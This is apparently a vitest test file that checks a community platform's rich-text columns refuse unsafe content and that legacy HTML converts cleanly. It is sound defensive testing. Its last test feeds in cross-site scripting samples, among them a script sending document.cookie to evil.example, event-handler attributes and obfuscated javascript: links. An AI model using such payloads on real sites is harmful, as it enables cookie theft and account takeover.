// Rich text is safe by construction (docs/decisions/0805): every rich-text column refuses
// script, handler, javascript: and data: payloads when written straight through the data API
// with an administrator's session, accepts what the editor writes, and says what is wrong.
// The TypeScript copy of the rules names the same problem as the database for every fixture,
// and old HTML is converted without its unsafe parts.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SupabaseClient } from '@supabase/supabase-js';
import { richTextProblem } from '../../packages/schemas/src/rich-text';
import { acceptedRichText, refusedRichText } from '../../packages/schemas/src/rich-text-fixtures';
import { startTestPlatform, type TestPlatform } from '../../apps/server/tests/support/test-platform';
import { seedDemo, type DemoResult } from '../seed/generate-demo';

let platform: TestPlatform;
let demo: DemoResult;
let admin: SupabaseClient;
const rows: Record<string, string> = {};

// Each rich-text column, and a row of the demo to write it on.
const columns = [
  { table: 'events', column: 'description' },
  { table: 'news_posts', column: 'content' },
  { table: 'groups', column: 'description' },
  { table: 'kb_articles', column: 'body' },
] as const;

const databaseProblem = async (doc: unknown): Promise<string | null> => {
  try {
    await platform.db.query('select app_private.check_rich_text($1::jsonb)', [JSON.stringify(doc)]);
    return null;
  } catch (error) {
    const detail = (error as { detail?: string }).detail ?? String(error);
    return detail.replace(/^Rich text refused: /, '');
  }
};

beforeAll(async () => {
  platform = await startTestPlatform();
  demo = await seedDemo(platform.db, { members: 30, accounts: 2 });
  admin = platform.client();
  const signIn = await admin.auth.signInWithPassword({
    email: demo.adminEmail,
    password: demo.adminPassword,
  });
  expect(signIn.error).toBeNull();
  for (const { table } of columns) {
    const found = await platform.db.query<{ id: string }>(
      `select id from public.${table} where community_id = $1 order by id limit 1`,
      [demo.community],
    );
    rows[table] = found.rows[0]!.id;
  }
});
afterAll(async () => {
  await platform?.stop();
});

describe('rich-text columns', () => {
  it.each(columns.map((c) => [c.table, c.column] as const))(
    '%s.%s refuses every unsafe payload written through the data API',
    async (table, column) => {
      expect(refusedRichText.length).toBeGreaterThanOrEqual(22);
      const before = await platform.db.query(`select ${column} as doc from public.${table} where id = $1`, [
        rows[table],
      ]);
      for (const [name, doc] of refusedRichText) {
        const { error, status } = await admin
          .from(table)
          .update({ [column]: doc })
          .eq('id', rows[table]!);
        expect({ name, status, code: error?.code, message: error?.message }).toEqual({
          name,
          status: 400,
          code: '22023',
          message: 'invalid_rich_text',
        });
        expect(error!.details).toMatch(/^Rich text refused: /);
      }
      const after = await platform.db.query(`select ${column} as doc from public.${table} where id = $1`, [
        rows[table],
      ]);
      expect(after.rows).toEqual(before.rows);
    },
  );

  it.each(columns.map((c) => [c.table, c.column] as const))(
    '%s.%s stores and returns what the editor writes',
    async (table, column) => {
      for (const [, doc] of acceptedRichText) {
        const { data, error } = await admin
          .from(table)
          .update({ [column]: doc })
          .eq('id', rows[table]!)
          .select(column)
          .single();
        expect(error).toBeNull();
        expect((data as Record<string, unknown>)[column]).toEqual(doc);
      }
    },
  );

  it('refuses an unsafe description on a new event too, and through save_event', async () => {
    const inserted = await admin.from('events').insert({
      community_id: demo.community,
      title: 'Fest',
      starts_at: '2026-12-12T18:00:00Z',
      description: { type: 'doc', content: [{ type: 'image', attrs: { src: 'javascript:alert(1)' } }] },
    });
    expect(inserted.error?.message).toBe('invalid_rich_text');
    expect(inserted.error?.details).toBe(
      "Rich text refused: image at doc.content[0] must come from an https address or this server's storage",
    );
    const event = { community_id: demo.community, title: 'Fest', starts_at: '2026-12-12T18:00:00Z' };
    const refused = await admin.rpc('save_event', {
      p_event: { ...event, description: refusedRichText[8]![1] },
    });
    expect(refused.error?.message).toBe('invalid_rich_text');
    const created = await admin.rpc('save_event', {
      p_event: { ...event, description: acceptedRichText[1]![1] },
    });
    expect(created.error).toBeNull();
    const id = created.data as string;
    const stored = await platform.db.query(`select description from public.events where id = $1`, [id]);
    expect(stored.rows[0]).toEqual({ description: acceptedRichText[1]![1] });
    const cleared = await admin.rpc('save_event', { p_event: { ...event, id, description: null } });
    expect(cleared.error).toBeNull();
    const row = await platform.db.query(`select description from public.events where id = $1`, [id]);
    expect(row.rows[0]).toEqual({ description: null });
  });

  it('finds knowledge base articles by the words of their body', async () => {
    const doc = acceptedRichText[1]![1];
    await platform.db.query(`update public.kb_articles set body = $1, status = 'published' where id = $2`, [
      JSON.stringify(doc),
      rows.kb_articles,
    ]);
    const found = await admin.rpc('search_kb_articles', {
      p_community_id: demo.community,
      p_query: 'festudvalget',
    });
    expect(found.error).toBeNull();
    expect((found.data as { id: string }[]).map((a) => a.id)).toEqual([rows.kb_articles]);
    const structure = await admin.rpc('search_kb_articles', {
      p_community_id: demo.community,
      p_query: 'listItem',
    });
    expect(structure.data).toEqual([]);
  });
});

describe('the TypeScript copy of the rules', () => {
  it('names the same problem as the database for every fixture', async () => {
    for (const [name, doc] of [...refusedRichText, ...acceptedRichText]) {
      expect({ name, problem: richTextProblem(doc) }).toEqual({ name, problem: await databaseProblem(doc) });
    }
  });
});

describe('converting stored HTML', () => {
  const convert = async (html: string) =>
    (await platform.db.query<{ doc: unknown }>('select app_private.html_to_rich_text($1) as doc', [html]))
      .rows[0]!.doc;

  it("keeps the old editor's formatting", async () => {
    expect(
      await convert(
        '<p>Kom <strong>til</strong> <em>fest</em> &amp; hyg<br>dig</p><ul><li>Grill</li><li><a href="https://example.dk">Tilmeld</a></li></ul><h2>Praktisk</h2>',
      ),
    ).toEqual({
      type: 'doc',
      content: [
        {
          type: 'paragraph',
          content: [
            { type: 'text', text: 'Kom ' },
            { type: 'text', text: 'til', marks: [{ type: 'bold' }] },
            { type: 'text', text: ' ' },
            { type: 'text', text: 'fest', marks: [{ type: 'italic' }] },
            { type: 'text', text: ' & hyg' },
            { type: 'hardBreak' },
            { type: 'text', text: 'dig' },
          ],
        },
        {
          type: 'bulletList',
          content: [
            {
              type: 'listItem',
              content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Grill' }] }],
            },
            {
              type: 'listItem',
              content: [
                {
                  type: 'paragraph',
                  content: [
                    {
                      type: 'text',
                      text: 'Tilmeld',
                      marks: [
                        {
                          type: 'link',
                          attrs: {
                            href: 'https://example.dk',
                            target: '_blank',
                            rel: 'noopener noreferrer nofollow',
                          },
                        },
                      ],
                    },
                  ],
                },
              ],
            },
          ],
        },
        { type: 'heading', attrs: { level: 2 }, content: [{ type: 'text', text: 'Praktisk' }] },
      ],
    });
    expect(await convert('Første linje\nanden linje\n\nNyt afsnit')).toEqual({
      type: 'doc',
      content: [
        {
          type: 'paragraph',
          content: [
            { type: 'text', text: 'Første linje' },
            { type: 'hardBreak' },
            { type: 'text', text: 'anden linje' },
          ],
        },
        { type: 'paragraph', content: [{ type: 'text', text: 'Nyt afsnit' }] },
      ],
    });
    expect(await convert('   ')).toBeNull();
  });

  it('drops scripts, handlers and unsafe links from stored HTML', async () => {
    const doc = await convert(
      `<p onclick="alert(1)">Hej<script>document.location='https://evil.example/'+document.cookie</script></p>
       <a href="javascript:alert(1)">farlig</a> <a href=" JaVaScRiPt:alert(1)">også</a>
       <img src=x onerror=alert(1)><img src="data:image/svg+xml,<svg onload=alert(1)>">
       <iframe src="javascript:alert(1)">inde</iframe><style>body{background:url(javascript:alert(1))}</style>
       <svg><script>alert(1)</script></svg><a href="&#106;avascript:alert(1)">kodet</a>`,
    );
    expect(await databaseProblem(doc)).toBeNull();
    const text = JSON.stringify(doc);
    expect(text).not.toMatch(/javascript|alert|onclick|onerror|cookie|data:|inde|background/i);
    expect(text).toContain('farlig');
    expect(text).toContain('kodet');
  });
});
